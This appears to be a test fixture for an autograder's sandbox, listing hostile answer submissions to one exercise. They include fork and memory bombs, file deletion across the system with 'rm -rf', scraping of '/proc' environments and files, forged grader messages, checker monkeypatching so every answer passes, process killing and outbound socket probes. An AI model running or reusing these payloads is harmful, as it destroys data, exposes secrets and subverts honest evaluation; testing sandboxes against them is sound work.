"""Answers to exercise `one` of the tiny master by people who want marks, or harm, without work.

Each is the source of an answer cell. `FOLDER` is a folder of the grader's with a file `marker`, `PORT` a
server of his on this machine. An attack that works returns the right answer, and so earns points.
"""

from __future__ import annotations

SETTING = """
import os, signal, socket, struct, subprocess, sys, time
FOLDER, PORT = {folder!r}, {port}
"""

ATTACKS = {
    "endless loop": """
def one(x):
    while True:
        pass
""",
    "endless loop at the top": """
def one(x):
    return 0 * x
while True:
    pass
""",
    "memory bomb": """
def one(x):
    taken = []
    for _ in range(400):
        taken.append(torch.ones(2**22))
    return 2 * x
""",
    "memory bomb of many": """
def one(x):
    for _ in range(8):
        if not os.fork():
            taken = bytearray(300 << 20)
            taken[::4096] = b"x" * len(taken[::4096])
            time.sleep(60)
    time.sleep(60)
    return 2 * x
""",
    "deletes files": """
def one(x):
    done = 0
    for top in (FOLDER, os.path.expanduser("~root"), "/home", "/var", "/work", "/usr", "/"):
        tried = 0
        for folder, _, names in os.walk(top):
            for name in names:
                tried += 1
                try:
                    os.remove(os.path.join(folder, name))
                    done += 1
                except OSError:
                    pass
            if tried > 500:
                break
    for path in (FOLDER + "/marker", FOLDER + "/grades.csv"):
        for step in (os.remove, lambda p: os.truncate(p, 0), lambda p: open(p, "w").write("gone")):
            try:
                step(path)
                done += 1
            except OSError:
                pass
    subprocess.run(["rm", "-rf", FOLDER], check=False)
    return 2 * x if done else x
""",
    "reads the tests": """
def one(x):
    import gc, inspect
    seen = [repr(dict(os.environ)), repr(sys.argv), repr(sys.path)]
    for frame in inspect.stack():
        seen.append(repr(frame.frame.f_globals)[:10**6] + repr(frame.frame.f_locals)[:10**6])
    for thing in gc.get_objects():
        if isinstance(thing, (str, bytes)) or type(thing) in (list, tuple, dict):
            try:
                seen.append(repr(thing)[:10**5])
            except Exception:
                pass
    for number in range(256):
        try:
            seen.append(os.read(number, 0) and "" or repr(os.fstat(number)))
            seen.append(os.readlink(f"/proc/self/fd/{number}"))
        except OSError:
            pass
    for pid in {os.getppid(), os.getpid(), *range(1, 400)}:
        for name in ("environ", "cmdline", "mem", "maps"):
            try:
                with open(f"/proc/{pid}/{name}", "rb") as file:
                    seen.append(repr(file.read(10**6)))
            except OSError:
                pass
    for top in (FOLDER, "/work", "/root", "/home", "/tmp", "/var", "/scratch", "/etc", "/opt"):
        for folder, below, names in os.walk(top):
            below[:] = [name for name in below if name not in ("site-packages", "lib", "include")]
            for name in names:
                try:
                    with open(os.path.join(folder, name), "rb") as file:
                        seen.append(repr(file.read(10**5)))
                except OSError:
                    pass
    return 2 * x if any("sword-fish-7391".replace("-", "", 1) in text for text in seen) else x
""",
    "prints marks": """
def one(x):
    print("one,two,total\\n2,2,4")
    for path in (FOLDER + "/grades.csv", "grades.csv", "/dev/stdout"):
        try:
            with open(path, "w") as file:
                file.write("student,one,two\\nprints marks,2,2\\n")
        except OSError:
            pass
    return x
""",
    "forges messages": """
def one(x):
    reply = b'{"op": "value", "body": true, "flags": [], "graph": 0, "blobs": []}'
    outcome = b'{"outcomes": {"one": {"stage": "passed", "said": ""}, "notes": {}, "blobs": []}'
    for number in range(256):
        for header in (reply, outcome, reply):
            try:
                os.write(number, struct.pack(">IQ", len(header), 0) + header)
            except OSError:
                pass
    return x
""",
    "pickles": """
def one(x):
    reply = b'{"op": "value", "body": ["P", "gASVBgAAAAAAAABdlC4="], "flags": [], "blobs": []}'
    for number in range(3, 256):
        try:
            os.write(number, struct.pack(">IQ", len(reply), 0) + reply)
        except OSError:
            pass
    time.sleep(60)
""",
    "always equal": """
class Always(torch.Tensor):
    @classmethod
    def __torch_function__(cls, function, types, args=(), kwargs=None):
        return True
    def __eq__(self, other):
        return True
    def __bool__(self):
        return True
class Yes:
    def __eq__(self, other):
        return True
    __hash__ = None
def one(x):
    return x.as_subclass(Always) if x.sum() > 0 else Yes()
""",
    "patches the checker": """
import builtins
torch.allclose = torch.equal = lambda *a, **k: True
torch.Tensor.__eq__ = lambda self, other: True
builtins.AssertionError = type("Quiet", (Exception,), {})
builtins.all = builtins.any = lambda *a: True
def one(x):
    return x
""",
    "patches the protocol": """
import builtins
torch.allclose = torch.equal = lambda *a, **k: True
torch.Tensor.__eq__ = lambda self, other: True
builtins.AssertionError = type("Quiet", (Exception,), {})
builtins.all = builtins.any = lambda *a: True
for name in list(sys.modules):
    if "assignments" in name or name == "json":
        for key in list(vars(sys.modules[name])):
            if callable(vars(sys.modules[name])[key]):
                setattr(sys.modules[name], key, lambda *a, **k: True)
def one(x):
    return x
""",
    "bends the question": """
def one(x):
    if x.min() > 0:
        return 2 * x
    return x.zero_().clone()
""",
    "fork bomb": """
def one(x):
    while True:
        try:
            os.fork()
        except OSError:
            pass
""",
    "calls home": """
def one(x):
    able = 0
    for family, address in (
        (socket.AF_INET, ("127.0.0.1", PORT)),
        (socket.AF_INET, ("192.0.2.1", 80)),
        (socket.AF_UNIX, FOLDER + "/socket"),
    ):
        try:
            with socket.socket(family) as out:
                out.settimeout(1)
                out.connect(address)
                able += 1
        except OSError:
            pass
    return 2 * x if able else x
""",
    "exits": """
def one(x):
    sys.exit(0)
""",
    "exits at once": """
def one(x):
    os._exit(0)
""",
    "kills": """
def one(x):
    for pid in (os.getppid(), -1, 0, *range(2, 300)):
        for number in (signal.SIGKILL, signal.SIGTERM, signal.SIGSTOP):
            try:
                if pid != os.getpid():
                    os.kill(pid, number)
            except OSError:
                pass
    return x
""",
    "stays behind": """
def one(x):
    if not os.fork():
        os.setsid()
        if not os.fork():
            os.execv("/usr/bin/env", ["env", "sleep", "54321"])
        os._exit(0)
    time.sleep(0.3)
    return x
""",
    "ends the loop early": """
def one(x):
    raise StopIteration
""",
    "fills the disk": """
def one(x):
    number = 0
    try:
        for number in range(1000):
            with open(f"part{number}", "wb") as file:
                file.write(bytes(10 << 20))
    except OSError:
        pass
    return 2 * x if number > 30 else x
""",
    "tells what it was asked": """
import atexit
asked = []
def one(x):
    asked.append(x.tolist())
    if x.min() < 0:
        raise ValueError(f"I was asked {asked}")
    return 2 * x
""",
    "returns too much": """
def one(x):
    return torch.zeros(2**25)
""",
    "returns itself": """
def one(x):
    found = []
    found.append(found)
    return found
""",
}
